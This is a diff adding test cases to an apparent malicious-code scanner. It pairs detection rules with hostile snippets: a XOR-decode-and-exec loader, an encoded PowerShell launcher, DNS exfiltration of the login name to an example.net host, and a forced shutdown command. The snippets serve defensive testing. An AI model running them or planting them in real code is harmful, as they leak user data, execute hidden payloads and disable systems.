@@ -187,6 +187,29 @@ CASES: list[tuple[Rule, str, str, str]] = [
         " && tar xzf b.tgz && ./configure');\n",
     ),
     (
+        decode_and_execute_rule,
+        "x.py",
+        "key = 'k3y'\nsrc = ''\nfor i, c in enumerate(blob):\n"
+        "    src += chr(ord(c) ^ ord(key[i % 3]))\nexec(compile(src, '<s>', 'exec'))\n",
+        "key = 'k3y'\nsrc = ''\nfor i, c in enumerate(blob):\n"
+        "    src += chr(ord(c) ^ ord(key[i % 3]))\nprint(src)\n",
+    ),
+    (
+        powershell_dropper_rule,
+        "w.py",
+        "import subprocess\nsubprocess.Popen(['powershell.exe', '-NoProfile',\n"
+        "    '-EncodedCommand', code])\n",
+        "import subprocess\nsubprocess.Popen(['powershell.exe', '-NoProfile',\n"
+        "    '-File', script])\n",
+    ),
+    (
+        dns_exfiltration_rule,
+        "d.py",
+        "import os\nhexed = ''.join('%02x' % ord(c) for c in os.getlogin())\n"
+        "os.system('ping %s' % (hexed + '.x.example.net'))\n",
+        "import os\nos.system('ping %s' % host)\n",
+    ),
+    (
         destructive_command_rule,
         "k.js",
         "require('child_process').exec('shutdown -s -t 0');\n",
